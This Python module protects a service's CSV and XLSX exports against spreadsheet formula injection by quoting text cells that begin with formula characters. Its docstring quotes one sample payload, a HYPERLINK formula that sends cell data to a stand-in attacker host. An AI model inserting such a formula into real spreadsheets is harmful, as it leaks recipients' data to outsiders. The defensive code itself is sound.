"""Every CSV and XLSX the service writes goes through here, so no cell can become a formula.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (and a
leading tab or carriage return hides such a start from a naive check), so text someone typed —
a village name, a facility name, a report note — could become
``=HYPERLINK("http://evil.example/?leak="&A1,"x")`` in an official's Excel. Such text cells
are written with a leading apostrophe (OWASP's advice; Excel shows the text as typed). Numbers
stay numbers: real numeric values are never touched, and neither is text that is just a number
("-5", "+66 2 590 1000" is not one, so it is quoted).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any, BinaryIO, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet may hold it: text that would run as a formula is quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        if _PLAIN_NUMBER.fullmatch(value):
            return value
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


class CsvWriter:
    """``csv.writer`` (CRLF lines) whose rows are quoted as ``safe_row`` does; None as empty."""

    def __init__(self, handle: TextIO) -> None:
        self._writer = csv.writer(handle, lineterminator="\r\n")

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow(safe_row("" if value is None else value for value in row))

    def write_columns(self, columns: Sequence[Sequence[Any]], *, text: Iterable[int]) -> None:
        """Rows given as equal-length columns; ``text`` are the positions of the columns that
        may hold text (the others hold numbers, booleans, None or text made here, never a
        formula), so only those are checked: the rows of a 150,000-site list in one C call.
        """
        columns = list(columns)
        for position in text:
            columns[position] = [
                safe_cell(v) if v.__class__ is str and v.startswith(FORMULA_STARTS) else v
                for v in columns[position]
            ]
        # csv writes None as an empty field.
        self._writer.writerows(zip(*columns, strict=True))


def csv_bytes(header: Sequence[Any], rows: Iterable[Iterable[Any]]) -> bytes:
    """A CSV with a byte-order mark (so Excel reads the Thai as UTF-8); None as empty."""
    text = io.StringIO()
    writer = CsvWriter(text)
    writer.writerow(header)
    for row in rows:
        writer.writerow(row)
    return text.getvalue().encode("utf-8-sig")


class Workbook:
    """openpyxl's write-only workbook whose sheets quote formula-like text on every append."""

    def __init__(self) -> None:
        from openpyxl import Workbook as OpenpyxlWorkbook

        self._book = OpenpyxlWorkbook(write_only=True)

    def sheet(self, title: str) -> _Sheet:
        return _Sheet(self._book.create_sheet(title))

    @property
    def properties(self):
        """The document properties (title, description) of the file."""
        return self._book.properties

    def save(self, target: Path | BinaryIO) -> None:
        self._book.save(target)

    def to_bytes(self) -> bytes:
        output = io.BytesIO()
        self._book.save(output)
        return output.getvalue()


class _Sheet:
    def __init__(self, sheet) -> None:
        self._sheet = sheet

    def append(self, row: Iterable[Any]) -> None:
        self._sheet.append(safe_row(row))
